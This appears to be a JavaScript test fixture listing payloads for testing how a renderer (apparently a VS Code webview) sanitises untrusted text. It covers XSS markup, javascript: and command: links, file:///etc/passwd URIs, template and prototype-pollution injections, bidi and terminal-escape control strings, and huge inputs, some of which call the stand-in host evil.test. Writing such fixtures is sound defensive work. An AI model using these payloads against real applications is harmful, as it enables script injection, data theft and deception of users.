/**
 * Texts that try to be more than text. Each that could run a script would call `window.__executed.push(...)`, and each
 * that could reach the network would ask for evil.test.
 */

const RUN = "window.__executed.push('run')";
const GO = "https://evil.test/";

const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${GO}x.js></SCRIPT>`,
  `</code></pre><script>${RUN}</script>`,
  `</script><script>${RUN}//`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror="${RUN}">`,
  `<img src="${GO}pixel.gif" onerror=${RUN}>`,
  `<img srcset="${GO}a.png 1x" src=x>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="${GO}o.swf"></object>`,
  `<embed src="${GO}e.swf">`,
  `<link rel=stylesheet href="${GO}s.css">`,
  `<style>@import "${GO}s.css"; * { display: none !important }</style>`,
  `<div style="background:url(${GO}b.png); width: expression(${RUN})">`,
  `<base href="${GO}">`,
  `<meta http-equiv="refresh" content="0;url=${GO}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=${GO}a.mp3 autoplay onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<button form=x formaction="javascript:${RUN}">press</button>`,
  `<form action="${GO}" id=x><input type=submit></form>`,
  `<a href="javascript:${RUN}">press</a>`,
  `<a href="command:workbench.action.terminal.new">press</a>`,
  `<a href="vscode://evil.ext/run">press</a>`,
  `<x-card><slot onslotchange=${RUN}></slot></x-card>`,
];

const LINKS = [
  `[press](javascript:${RUN})`,
  `](javascript:${RUN})`,
  `![x](${GO}x.png)`,
  "[press](command:workbench.action.terminal.new?%5B%5D)",
  "command:adkEvidence.restartServer",
  "vscode://file/etc/passwd",
  "file:///etc/passwd",
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD4x`,
  `javascript:${RUN}`,
  `JaVaScRiPt&#58;${RUN}`,
  `<javascript:${RUN}>`,
  `<${GO}>`,
];

const TEMPLATES = [
  `\${${RUN}}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `<%= ${RUN} %>`,
  `{__html: "<img src=x onerror=${RUN}>"}`,
  `"},"type":"state","state":{"phase":"empty"}}`,
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "</style><style>body{display:none}</style>",
  "}; body { display: none } .x {",
  `"); background: url(${GO}c.png`,
  "$(error) $(sync~spin)",
];

const CONTROLS = [
  "access\u202e\u2066// check admin\u2069 \u2066 = true",
  "\u202dleft\u202c \u200fmark \u2067isolate",
  "zero\u200bwidth\u200d\u2060join\ufeffed",
  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.test/\u0007press\u001b]8;;\u0007",
  "null\u0000byte\u0000",
  "back\b\b\bspace \u007f delete \u0085 next",
  "carriage\rreturn",
  "line\u2028separator\u2029paragraph",
  "tags\u{e0041}\u{e0042}\u{e007f}",
  "lone \ud800 surrogate",
  "private \ue000 use",
  "soft\u00adhyphen \u034fgrapheme \u115ffiller \u3164filler",
  `Z${"\u0300\u0301\u0302\u0303".repeat(50)}algo`,
  "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 right to left",
];

const GIANTS = ["x".repeat(1_000_000), "<b>".repeat(50_000), "\u202e".repeat(20_000), "a\u200b".repeat(20_000)];

export const PAYLOADS = [...MARKUP, ...LINKS, ...TEMPLATES, ...CONTROLS];
export { GIANTS };
